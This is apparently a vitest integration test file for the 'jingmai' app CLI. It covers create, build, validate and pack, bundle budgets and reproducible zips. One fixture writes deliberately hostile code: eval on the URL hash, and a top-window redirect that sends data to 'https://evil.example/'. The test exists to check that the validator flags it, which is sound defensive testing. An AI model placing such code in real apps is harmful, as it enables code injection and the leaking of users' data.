// The jingmai command as a user runs it: the built CLI, spawned in fresh app folders. Apps live
// under packages/cli/.test-apps so their @jingmai, Vite and Preact imports resolve to this
// package's linked dependencies, as after an install. Needs `tsc -b` first (npm test does it).
import { execFile } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { MANIFEST_FILE, parseManifest } from '@jingmai/protocol';
import { unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { sha256 } from './pack/integrity.js';
import type { ValidationReport } from './validate/validate-app.js';

const PACKAGE = fileURLToPath(new URL('..', import.meta.url));
const BIN = join(PACKAGE, 'dist/bin.js');
const VITEST = fileURLToPath(new URL('../../../node_modules/vitest/vitest.mjs', import.meta.url));

// Each test spawns builds; on a busy 2-core machine one can take several seconds.
vi.setConfig({ testTimeout: 60_000, hookTimeout: 60_000 });

interface Run {
  readonly code: number;
  readonly stdout: string;
  readonly stderr: string;
}

function run(args: readonly string[], cwd: string, env: NodeJS.ProcessEnv = {}): Promise<Run> {
  return new Promise((resolve) => {
    execFile(
      process.execPath,
      [BIN, ...args],
      { cwd, env: { ...process.env, NO_COLOR: '1', ...env } },
      (error, stdout, stderr) => resolve({ code: error ? Number(error.code ?? 1) : 0, stdout, stderr }),
    );
  });
}

let work = '';
beforeAll(async () => {
  if (!existsSync(BIN)) throw new Error(`${BIN} is missing: run "pnpm exec tsc -b" first`);
  await mkdir(join(PACKAGE, '.test-apps'), { recursive: true });
  work = await mkdtemp(join(PACKAGE, '.test-apps', 'run-'));
});
afterAll(() => rm(work, { recursive: true, force: true }));

describe('jingmai --help', () => {
  it('lists the commands, and every command has its help', async () => {
    const overview = await run(['--help'], work);
    expect(overview.code).toBe(0);
    for (const name of ['create', 'build', 'validate', 'pack']) {
      expect(overview.stdout).toContain(`  ${name} `);
      const help = await run([name, '--help'], work);
      expect(help.code).toBe(0);
      expect(help.stdout).toMatch(new RegExp(`^Usage: jingmai ${name}`));
      expect(help.stdout).toContain('-h, --help');
    }
  });

  it('exits with 2 and the fix on a wrong command line', async () => {
    expect(await run(['deploy'], work)).toMatchObject({
      code: 2,
      stderr: expect.stringMatching(
        /unknown command "deploy"\n {2}fix: The commands are: create, build, validate, pack/,
      ),
    });
    expect(await run(['validate', '--jsn'], work)).toMatchObject({
      code: 2,
      stderr: expect.stringMatching(/fix: Run "jingmai validate --help"/),
    });
    expect(await run(['create'], work)).toMatchObject({ code: 2 });
  });
});

describe('jingmai create', () => {
  it('outside a workspace: published versions of the kit, a valid manifest, no placeholders', async () => {
    const dir = join(tmpdir(), `jingmai-create-${process.pid}-${Date.now()}`);
    try {
      const created = await run(['create', dir, '--template', 'preact', '--name', 'Orders 订单'], work);
      expect(created.code).toBe(0);
      expect(created.stdout).toContain('npm install');
      const pkg = JSON.parse(await readFile(join(dir, 'package.json'), 'utf8'));
      const own = JSON.parse(await readFile(join(PACKAGE, 'package.json'), 'utf8'));
      expect(pkg.dependencies).toEqual({
        '@jingmai/sdk': `^${own.version}`,
        preact: own.devDependencies.preact,
      });
      expect(pkg.devDependencies['@jingmai/cli']).toBe(`^${own.version}`);
      expect(pkg.devDependencies['@preact/preset-vite']).toBe(own.devDependencies['@preact/preset-vite']);
      expect(pkg.devDependencies.vite).toBe(own.dependencies.vite);
      const manifest = parseManifest(await readFile(join(dir, MANIFEST_FILE), 'utf8'));
      expect(manifest).toMatchObject({ ok: true, manifest: { name: 'Orders 订单' } });
      expect(await readFile(join(dir, 'index.html'), 'utf8')).toContain('<title>Orders 订单</title>');
      expect(await readFile(join(dir, 'README.md'), 'utf8')).toMatch(/^# Orders 订单\n/);
      expect(existsSync(join(dir, '.gitignore'))).toBe(true);
      expect(existsSync(join(dir, 'source/App.test.tsx'))).toBe(true);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });

  it('inside a pnpm workspace that includes the folder: workspace:* for the kit', async () => {
    const repo = await mkdtemp(join(tmpdir(), 'jingmai-repo-'));
    try {
      await writeFile(join(repo, 'pnpm-workspace.yaml'), 'packages:\n  - apps/*\n');
      const created = await run(['create', 'apps/orders'], repo);
      expect(created.code).toBe(0);
      expect(created.stdout).toContain('pnpm install');
      const pkg = JSON.parse(await readFile(join(repo, 'apps/orders/package.json'), 'utf8'));
      expect(pkg.name).toBe('orders');
      expect(pkg.dependencies['@jingmai/sdk']).toBe('workspace:*');
      expect(pkg.devDependencies['@jingmai/vite-plugin']).toBe('workspace:*');
      expect(JSON.parse(await readFile(join(repo, 'apps/orders', MANIFEST_FILE), 'utf8')).id).toBe(
        'com.example.orders',
      );
    } finally {
      await rm(repo, { recursive: true, force: true });
    }
  });

  it('refuses a folder that is not empty, an unknown template and an invalid id, saying the fix', async () => {
    await mkdir(join(work, 'taken'));
    await writeFile(join(work, 'taken/file.txt'), 'x');
    expect(await run(['create', 'taken'], work)).toMatchObject({
      code: 1,
      stderr: expect.stringMatching(/not empty\n {2}fix: Choose a new folder/),
    });
    expect(await run(['create', 'x', '--template', 'react'], work)).toMatchObject({
      code: 1,
      stderr: expect.stringContaining('fix: Use --template preact or vanilla'),
    });
    const badId = await run(['create', 'y', '--id', 'Not An Id'], work);
    expect(badId).toMatchObject({ code: 1, stderr: expect.stringContaining('id: must be lowercase') });
    expect(existsSync(join(work, 'y'))).toBe(false);
  });
});

describe.each(['vanilla', 'preact'])('the %s template', (template) => {
  let app = '';
  beforeAll(async () => {
    app = join(work, template);
    expect((await run(['create', template, '--template', template], work)).code).toBe(0);
  });

  it('passes its own tests against the mock console', async () => {
    const result = await new Promise<Run>((resolve) =>
      execFile(
        process.execPath,
        [VITEST, 'run'],
        { cwd: app, env: { ...process.env, NO_COLOR: '1' } },
        (error, stdout, stderr) => resolve({ code: error ? 1 : 0, stdout, stderr }),
      ),
    );
    expect(result.code, result.stdout + result.stderr).toBe(0);
    expect(result.stdout).toMatch(/Tests\s+2 passed/);
  });

  it('builds, validates and packs reproducibly', async () => {
    const build = await run(['build'], app);
    expect(build.code, build.stderr).toBe(0);
    expect(build.stderr).toMatch(/✓ Building with Vite \(\d/);
    expect(build.stdout).toMatch(/within the budget of 100\.0 KiB/);
    expect(await readFile(join(app, 'dist/index.html'), 'utf8')).toContain(
      'http-equiv="Content-Security-Policy"',
    );

    const validate = await run(['validate', '--json'], join(app, 'source'));
    expect(validate.code).toBe(0);
    const report = JSON.parse(validate.stdout) as ValidationReport;
    expect(report).toMatchObject({ ok: true, errors: 0, bundle: { budgetBytes: 100 * 1024 } });
    expect(report.findings.map((finding) => finding.rule)).toEqual(['manifest/local-entry']);

    const first = await run(['pack', '--out-dir', 'out-a'], app, { TZ: 'UTC' });
    expect(first.code, first.stderr).toBe(0);
    const second = await run(['pack', '--out-dir', 'out-b'], app, { TZ: 'Asia/Shanghai' });
    expect(second.code, second.stderr).toBe(0);
    const name = `com.example.${template}-0.1.0.zip`;
    const a = await readFile(join(app, 'out-a', name));
    expect(a.equals(await readFile(join(app, 'out-b', name)))).toBe(true);
    expect(first.stdout).toContain(`sha256 ${sha256(a)}`);

    const entries = unzipSync(a);
    const paths = Object.keys(entries);
    expect(paths).toEqual([...paths].sort());
    expect(paths).toEqual(
      expect.arrayContaining(['SHA256SUMS', 'jingmai.app.json', 'app/index.html', 'app/jingmai.app.json']),
    );
    const sums = new TextDecoder().decode(entries.SHA256SUMS);
    const listed = sums
      .trim()
      .split('\n')
      .map((line) => line.split('  '));
    expect(listed.map(([, path]) => path)).toEqual(paths.filter((path) => path !== 'SHA256SUMS'));
    for (const [hash, path] of listed) expect(sha256(entries[path ?? ''] as Uint8Array)).toBe(hash);
  });
});

describe('the bundle budget set in vite.config.ts', () => {
  it('is what validate checks the build against, and what fails the build', async () => {
    const app = join(work, 'budget');
    expect((await run(['create', 'budget'], work)).code).toBe(0);
    expect((await run(['build'], app)).code).toBe(0);
    await writeFile(
      join(app, 'vite.config.ts'),
      "import { jingmai } from '@jingmai/vite-plugin';\nexport default { plugins: [jingmai({ budgetBytes: 1000 })] };\n",
    );
    const validate = await run(['validate', '--json'], app);
    expect(validate.code).toBe(1);
    const report = JSON.parse(validate.stdout) as ValidationReport;
    expect(report.bundle?.budgetBytes).toBe(1000);
    expect(report.findings).toContainEqual(
      expect.objectContaining({
        rule: 'bundle/budget',
        message: expect.stringContaining('over the budget of 1.0 KiB (1000 B)'),
      }),
    );
    const build = await run(['build'], app);
    expect(build.code).toBe(1);
    expect(build.stderr).toContain('over the budget of 1.0 KiB (1000 B)');
    expect(build.stderr).toContain('fix: ');
    expect(build.stderr).not.toMatch(/^\s+at /m);
  });
});

describe('jingmai validate and build on a broken app', () => {
  let app = '';
  beforeAll(async () => {
    app = join(work, 'broken');
    expect((await run(['create', 'broken'], work)).code).toBe(0);
    await writeFile(
      join(app, 'source/escape.ts'),
      [
        'export function escape(code: string): void {',
        '  eval(code);',
        "  const make = new Function('a', 'return a');",
        "  window.top!.location.href = 'https://evil.example/' + make(code);",
        '}',
        '',
      ].join('\n'),
    );
    await writeFile(
      join(app, 'source/main.ts'),
      `import { escape } from './escape.js';\nescape(location.hash);\n`,
    );
  });

  it('reports forbidden code in the source with file, line and column, and in the build', async () => {
    expect((await run(['build'], app)).code).toBe(0);
    const result = await run(['validate', '--json'], app);
    expect(result.code).toBe(1);
    const report = JSON.parse(result.stdout) as ValidationReport;
    const source = report.findings.filter((finding) => finding.file === 'source/escape.ts');
    expect(source.map(({ rule, line, column }) => `${line}:${column} ${rule}`)).toEqual([
      '2:3 code/eval',
      '3:20 code/new-function',
      '4:3 code/top-navigation',
    ]);
    const built = report.findings.filter((finding) => finding.file?.startsWith('dist/assets/'));
    expect(built.map((finding) => finding.rule).sort()).toEqual([
      'code/eval',
      'code/new-function',
      'code/top-navigation',
    ]);
    expect(report.ok).toBe(false);

    const text = await run(['validate'], app);
    expect(text.code).toBe(1);
    expect(text.stdout).toContain(
      'source/escape.ts:2:3  error  code/eval\n  eval() runs text as code\n  fix: ',
    );
    expect(await run(['pack'], app)).toMatchObject({
      code: 1,
      stderr: expect.stringContaining('the app is not ready to submit'),
    });
  });

  it('reports manifest problems on their lines with the protocol fixes, and the build fails with them', async () => {
    const manifest = JSON.parse(await readFile(join(app, MANIFEST_FILE), 'utf8'));
    manifest.scopes = [{ scope: 'camera', purpose: 'Take photos of parcels.' }, { scope: 'ui' }];
    manifest.network = { origins: ['http://api.example.com'] };
    await writeFile(join(app, MANIFEST_FILE), `${JSON.stringify(manifest, null, 2)}\n`);
    const parsed = parseManifest(manifest);
    if (parsed.ok) throw new Error('the manifest should be invalid');

    const report = JSON.parse((await run(['validate', '--json'], app)).stdout) as ValidationReport;
    const found = report.findings.filter((finding) => finding.file === MANIFEST_FILE);
    expect(found.map(({ rule, line }) => `${line} ${rule}`)).toEqual([
      '9 manifest/unknown-scope',
      '12 manifest/purpose',
      '18 csp/network-origin',
    ]);
    expect(found.map((finding) => finding.fix)).toEqual(parsed.errors.map((issue) => issue.fix));

    const build = await run(['build'], app);
    expect(build.code).toBe(1);
    expect(build.stderr).toContain('jingmai.app.json has 3 problems');
    for (const issue of parsed.errors) expect(build.stderr).toContain(`fix: ${issue.fix}`);
  });

  it('says where to run when there is no app', async () => {
    const empty = await mkdtemp(join(tmpdir(), 'jingmai-empty-'));
    try {
      expect(await run(['validate'], empty)).toMatchObject({
        code: 1,
        stderr: expect.stringContaining('fix: Run the command inside an app folder'),
      });
    } finally {
      await rm(empty, { recursive: true, force: true });
    }
  });
});
